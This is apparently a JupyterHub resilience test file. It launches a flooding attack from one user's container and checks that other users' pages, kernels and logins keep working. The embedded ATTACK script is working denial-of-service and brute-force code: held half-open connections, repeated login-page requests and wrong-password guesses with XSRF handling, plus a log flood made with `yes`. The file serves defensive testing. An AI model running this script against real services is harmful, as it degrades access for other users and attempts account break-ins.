"""One server does all at once that keeps others from working: connections, guesses, pages and log output."""

from __future__ import annotations

import time
from statistics import quantiles

import requests

from harness.figures import Told
from harness.hub import Hub, Person
from harness.kernels import KernelAt

SECONDS = 40.0
# Run in the attacker's container against the hub's inner port, which is all that it reaches.
ATTACK = r"""
import http.client, os, socket, threading, time, urllib.parse

hub = urllib.parse.urlsplit(os.environ["JUPYTERHUB_API_URL"])
until = time.monotonic() + float(os.environ["SECONDS"])


def half_open():
    held = []
    while time.monotonic() < until:
        try:
            one = socket.create_connection((hub.hostname, hub.port), timeout=2)
            one.sendall(b"GET /hub/login HTTP/1.1\r\nHost: hub\r\n")
            held.append(one)
        except OSError:
            time.sleep(0.05)
        if len(held) > 2000:
            held.pop(0).close()


def ask(guess):
    while time.monotonic() < until:
        try:
            connection = http.client.HTTPConnection(hub.hostname, hub.port, timeout=10)
            while time.monotonic() < until:
                connection.request("GET", "/hub/login")
                answer = connection.getresponse()
                answer.read()
                if guess:
                    cookies = [text.split(";")[0] for text in answer.headers.get_all("Set-Cookie") or []]
                    token = next(text.split("=", 1)[1] for text in cookies if text.startswith("_xsrf="))
                    fields = {"username": os.environ["VICTIM"], "password": "a wrong password", "_xsrf": token}
                    sent = {"Cookie": "; ".join(cookies), "Content-Type": "application/x-www-form-urlencoded"}
                    connection.request("POST", "/hub/login", urllib.parse.urlencode(fields), sent)
                    connection.getresponse().read()
        except (OSError, http.client.HTTPException):
            time.sleep(0.05)


work = [half_open, *[lambda: ask(True)] * 20, *[lambda: ask(False)] * 8]
threads = [threading.Thread(target=one) for one in work]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
"""


def test_others_work_on_while_a_server_floods_all_it_reaches(hub: Hub, told: Told) -> None:
    victim, mallory, newcomer = hub.person(), hub.person(), hub.person()
    victim.started()
    mallory.started({"user_options": {"size": "standard"}})
    kernel = KernelAt(f"{hub.url}/user/{victim.name}", victim.token, "python3")
    container = hub.servers.container(mallory.name)
    address = hub.servers.variable(mallory.name, "JUPYTERHUB_API_URL")
    environment = {"JUPYTERHUB_API_URL": address, "SECONDS": str(SECONDS), "VICTIM": victim.name}
    began = time.monotonic()
    container.exec_run(["python3", "-c", ATTACK], environment=environment, detach=True)
    container.exec_run(["sh", "-c", f"timeout {SECONDS:.0f} yes 'an endless line' > /proc/1/fd/1"], detach=True)

    times = []
    while time.monotonic() < began + SECONDS / 2:
        for url in (f"{hub.url}/hub/home", f"{hub.url}/user/{victim.name}/api"):
            asked = time.monotonic()
            answer = victim.web.get(url, timeout=60)
            times.append(time.monotonic() - asked)
            assert answer.status_code == 200, answer.text
        time.sleep(0.2)
    log = hub.log()
    pages, guesses = log.count("200 GET /hub/login"), log.count("POST /hub/login")
    assert pages > 50, "it floods"
    assert guesses > 20, "it guesses"
    assert kernel.run("print(6 * 7)") == "42\n"
    logged_in = time.monotonic()
    assert Person(hub, victim.name, victim.password).web, "the right password, among the guesses"
    logged_in = time.monotonic() - logged_in
    newcomer.started()
    told(
        f"Under attack, {pages} login pages and {guesses} guesses: p95 of {len(times)} pages "
        f"{quantiles(times, n=20)[-1]:.2f} s, the longest {max(times):.2f} s, "
        f"a login with the right password {logged_in:.1f} s."
    )
    assert requests.get(f"{hub.url}/hub/health", timeout=30).ok
    for person in (victim, mallory, newcomer):
        person.stop()
        person.close()
